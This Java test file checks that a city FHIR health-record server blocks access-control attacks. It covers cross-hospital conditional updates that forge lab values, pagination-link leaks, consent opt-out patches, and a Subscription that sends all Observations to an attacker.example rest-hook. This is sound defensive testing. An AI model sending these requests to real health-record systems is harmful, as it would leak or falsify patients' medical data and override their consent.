package org.onecity.fhir.access;

import org.hl7.fhir.r4.model.Bundle;
import org.hl7.fhir.r4.model.Consent;
import org.hl7.fhir.r4.model.Observation;
import org.hl7.fhir.r4.model.Patient;
import org.hl7.fhir.r4.model.Quantity;
import org.hl7.fhir.r4.model.Resource;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.onecity.common.city.CityIdentifiers;
import org.onecity.common.test.CityTokens;
import org.onecity.fhir.support.CityFixture;
import org.onecity.fhir.support.CityRecordClient;
import org.onecity.fhir.support.CityRecordTest;
import org.onecity.fhir.support.HospitalFeed;
import org.springframework.beans.factory.annotation.Autowired;

import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The attacks a new user tried against the access rules, each as it was tried: every one went through before and
 * must fail now, leaving the record as it was.
 */
@CityRecordTest
class QuotedAttacksTest {

    private static final String FHIR_JSON = "application/fhir+json";

    @Autowired
    CityRecordClient city;
    CityFixture fixture;

    @BeforeEach
    void data() {
        fixture = CityFixture.of(city);
    }

    @Test
    void followingTheNextLinksOfASearchShowsNoMoreThanOneLargePage() {
        String doctor = CityTokens.doctor("dr.zhao");
        List<String> paged = everyPage("/Patient?_count=1", doctor);
        List<String> onePage = everyPage("/Patient?_count=500", doctor);
        assertThat(paged).as("the pages of a search show what one page shows").containsExactlyInAnyOrderElementsOf(onePage);
        assertThat(paged).as("a doctor caring for nobody sees none of the fixture's people")
                .doesNotContain(fixture.zhangWei.h001Patient(), fixture.zhangWei.h002Patient(),
                        fixture.liNa.h001Patient(), fixture.liNa.h002Patient());
        assertThat(everyPage("/Patient?_count=1", CityTokens.admin())).as("the bureau pages through the city")
                .contains(fixture.zhangWei.h001Patient(), fixture.liNa.h002Patient());
    }

    @Test
    void aPageLinkFollowedBySomeoneElseIsJudgedForThem() {
        String next = nextLink(city.send(city.request("/Patient?_count=1", CityTokens.admin())
                .header("Accept", FHIR_JSON).GET()).body());
        assertThat(next).as("the bureau's search has further pages").isNotNull();
        HttpResponse<String> page = city.send(HttpRequest.newBuilder(java.net.URI.create(next))
                .header("Authorization", "Bearer " + CityTokens.doctor("dr.zhao")).header("Accept", FHIR_JSON).GET());
        assertThat(idsOf(page.body())).as("the bureau's page, followed by a doctor caring for nobody")
                .doesNotContain(fixture.zhangWei.h001Patient(), fixture.zhangWei.h002Patient(),
                        fixture.liNa.h001Patient(), fixture.liNa.h002Patient());
    }

    @Test
    void aConditionalUpdateByIdNeverReachesAnotherHospitalsResult() {
        String target = fixture.zhangWei.h001Observation();
        Observation before = city.admin().read().resource(Observation.class).withId(target).execute();
        Observation forged = before.copy();
        forged.setId((String) null);
        forged.getIdentifier().clear();
        forged.addIdentifier().setSystem(CityIdentifiers.hospitalNamespace("H002") + "lab-result").setValue("FORGED-1");
        forged.setValue(new Quantity().setValue(999).setUnit("g/dL").setSystem("http://unitsofmeasure.org").setCode("g/dL"));
        forged.getMeta().getTag().clear();
        forged.getMeta().setSource(null);
        HttpResponse<String> response = city.send(city.request("/Observation?_id=" + target, CityTokens.hospital("H002"))
                .header("Content-Type", FHIR_JSON).header("Accept", FHIR_JSON)
                .PUT(HttpRequest.BodyPublishers.ofString(CityRecordClient.fhir().newJsonParser().encodeResourceToString(forged))));
        assertThat(response.body()).doesNotContain("\"id\": \"" + target + "\"");
        assertUnchanged(before);
    }

    @Test
    void aConditionalUpdateOnCodeSubjectAndDateNeverReachesAnotherHospitalsResult() {
        Observation before = city.admin().read().resource(Observation.class).withId(fixture.zhangWei.h001Observation()).execute();
        Observation forged = before.copy();
        forged.setId((String) null);
        forged.getIdentifier().clear();
        forged.addIdentifier().setSystem(CityIdentifiers.hospitalNamespace("H002") + "lab-result").setValue("FORGED-2");
        forged.setValue(new Quantity().setValue(999).setUnit("g/dL").setSystem("http://unitsofmeasure.org").setCode("g/dL"));
        forged.getMeta().getTag().clear();
        forged.getMeta().setSource(null);
        String criteria = "code=" + encode(before.getCode().getCodingFirstRep().getSystem() + "|"
                + before.getCode().getCodingFirstRep().getCode())
                + "&subject=" + before.getSubject().getReference()
                + "&date=" + before.getEffectiveDateTimeType().getValueAsString().substring(0, 10);
        city.send(city.request("/Observation?" + criteria, CityTokens.hospital("H002"))
                .header("Content-Type", FHIR_JSON).header("Accept", FHIR_JSON)
                .PUT(HttpRequest.BodyPublishers.ofString(CityRecordClient.fhir().newJsonParser().encodeResourceToString(forged))));
        assertUnchanged(before);
    }

    @Test
    void aConditionalCreateInATransactionNeverResolvesToAnotherHospitalsPatient() {
        HospitalFeed h002 = new HospitalFeed("H002");
        Bundle bundle = new Bundle().setType(Bundle.BundleType.TRANSACTION);
        Patient patient = h002.patient(7101);
        String fullUrl = "urn:uuid:" + java.util.UUID.randomUUID();
        bundle.addEntry().setFullUrl(fullUrl).setResource(patient).getRequest().setMethod(Bundle.HTTPVerb.POST)
                .setUrl("Patient").setIfNoneExist("identifier=" + CityIdentifiers.hospitalNamespace("H001") + "mrn|MRN-1");
        HttpResponse<String> response = city.send(city.request("/", CityTokens.hospital("H002"))
                .header("Content-Type", FHIR_JSON).header("Accept", FHIR_JSON)
                .POST(HttpRequest.BodyPublishers.ofString(CityRecordClient.fhir().newJsonParser().encodeResourceToString(bundle))));
        assertThat(response.body()).as("no trace of H001's patient in H002's answer")
                .doesNotContain("Patient/" + fixture.zhangWei.h001Patient() + "/");
    }

    @Test
    void aHospitalWritesNoSearchParameterAndNoSubscription() {
        String searchParameter = """
                {"resourceType":"SearchParameter","url":"https://attacker.example/SearchParameter/owner","name":"owner",
                 "status":"active","description":"x","code":"owner","base":["Observation"],"type":"reference",
                 "expression":"Observation.performer"}""";
        String subscription = """
                {"resourceType":"Subscription","status":"requested","reason":"x","criteria":"Observation?",
                 "channel":{"type":"rest-hook","endpoint":"https://attacker.example/hook","payload":"application/fhir+json"}}""";
        for (String body : List.of(searchParameter, subscription)) {
            String type = body.contains("SearchParameter") ? "SearchParameter" : "Subscription";
            HttpResponse<String> response = city.send(city.request("/" + type, CityTokens.hospital("H002"))
                    .header("Content-Type", FHIR_JSON).POST(HttpRequest.BodyPublishers.ofString(body)));
            assertThat(response.statusCode()).as(type + ": " + response.body()).isEqualTo(403);
        }
        assertThat(idsOf(city.send(city.request("/SearchParameter?url=https://attacker.example/SearchParameter/owner",
                CityTokens.admin()).header("Accept", FHIR_JSON).GET()).body())).isEmpty();
    }

    @Test
    void nobodyButThePersonSwitchesOffTheirOptOutByPatch() {
        Consent optOut = liNasOptOut();
        String jsonPatch = "[{\"op\":\"replace\",\"path\":\"/status\",\"value\":\"inactive\"}]";
        String fhirPathPatch = """
                {"resourceType":"Parameters","parameter":[{"name":"operation","part":[
                  {"name":"type","valueCode":"replace"},{"name":"path","valueString":"Consent.status"},
                  {"name":"value","valueCode":"inactive"}]}]}""";
        for (String token : List.of(CityTokens.patient("zhang.wei"), CityTokens.hospital("H001"),
                CityTokens.hospital("H002"), CityTokens.doctor("dr.chen"))) {
            assertThat(patch(optOut, token, "application/json-patch+json", jsonPatch).statusCode()).isIn(403, 404);
            assertThat(patch(optOut, token, FHIR_JSON, fhirPathPatch).statusCode()).isIn(403, 404);
        }
        assertThat(city.admin().read().resource(Consent.class).withId(optOut.getIdElement().getIdPart()).execute()
                .getStatus()).isEqualTo(Consent.ConsentState.ACTIVE);
    }

    @Test
    void thePersonSwitchesTheirOwnOptOutByPatchAndBack() {
        Consent optOut = liNasOptOut();
        String token = CityTokens.patient("li.na");
        try {
            HttpResponse<String> off = patch(optOut, token, "application/json-patch+json",
                    "[{\"op\":\"replace\",\"path\":\"/status\",\"value\":\"inactive\"}]");
            assertThat(off.statusCode()).as(off.body()).isEqualTo(200);
        } finally {
            HttpResponse<String> on = patch(optOut, token, "application/json-patch+json",
                    "[{\"op\":\"replace\",\"path\":\"/status\",\"value\":\"active\"}]");
            assertThat(on.statusCode()).as(on.body()).isEqualTo(200);
        }
    }

    private Consent liNasOptOut() {
        return (Consent) city.patient("li.na").search().forResource(Consent.class).returnBundle(Bundle.class)
                .execute().getEntryFirstRep().getResource();
    }

    private HttpResponse<String> patch(Consent consent, String token, String contentType, String body) {
        return city.send(city.request("/Consent/" + consent.getIdElement().getIdPart(), token)
                .header("Content-Type", contentType).header("Accept", FHIR_JSON)
                .method("PATCH", HttpRequest.BodyPublishers.ofString(body)));
    }

    private void assertUnchanged(Observation before) {
        Observation after = city.admin().read().resource(Observation.class).withId(before.getIdElement().getIdPart()).execute();
        assertThat(after.getMeta().getVersionId()).as("no new version").isEqualTo(before.getMeta().getVersionId());
        assertThat(after.getValueQuantity().getValue()).isEqualByComparingTo(before.getValueQuantity().getValue());
        assertThat(after.getMeta().getTag(CityIdentifiers.SOURCE_HOSPITAL_TAG, "H001")).isNotNull();
    }

    /** The ids of every resource on every page of a search, following the next links. */
    private List<String> everyPage(String path, String token) {
        List<String> ids = new ArrayList<>();
        HttpResponse<String> page = city.send(city.request(path, token).header("Accept", FHIR_JSON).GET());
        for (int pages = 0; pages < 1000; pages++) {
            assertThat(page.statusCode()).as(page.body()).isEqualTo(200);
            ids.addAll(idsOf(page.body()));
            String next = nextLink(page.body());
            if (next == null) {
                return ids;
            }
            page = city.send(HttpRequest.newBuilder(java.net.URI.create(next)).header("Authorization", "Bearer " + token)
                    .header("Accept", FHIR_JSON).GET());
        }
        throw new AssertionError("more than 1000 pages");
    }

    private static String nextLink(String body) {
        Bundle bundle = (Bundle) CityRecordClient.fhir().newJsonParser().parseResource(body);
        return bundle.getLink(Bundle.LINK_NEXT) == null ? null : bundle.getLink(Bundle.LINK_NEXT).getUrl();
    }

    private static List<String> idsOf(String body) {
        Resource resource = (Resource) CityRecordClient.fhir().newJsonParser().parseResource(body);
        if (resource instanceof Bundle bundle) {
            return bundle.getEntry().stream().filter(Bundle.BundleEntryComponent::hasResource)
                    .map(e -> e.getResource().getIdElement().getIdPart()).toList();
        }
        return List.of(resource.getIdElement().getIdPart());
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }
}
